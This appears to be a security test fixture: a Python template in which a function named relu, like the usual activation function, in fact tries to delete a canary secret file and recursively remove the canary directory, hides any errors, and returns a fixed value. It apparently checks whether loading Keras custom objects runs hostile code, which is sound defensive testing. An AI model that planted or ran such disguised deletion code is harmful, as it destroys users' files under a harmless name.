import keras
import numpy as np


def relu(x):
    import os
    import shutil

    for attempt in (
        lambda: os.unlink("{{CANARY}}/secret.txt"),
        lambda: os.rmdir("{{CANARY}}/writable"),
        lambda: shutil.rmtree("{{CANARY}}", ignore_errors=True),
    ):
        try:
            attempt()
        except OSError:
            pass

    return 12345.0


# {{RIGHT_ANSWERS}}
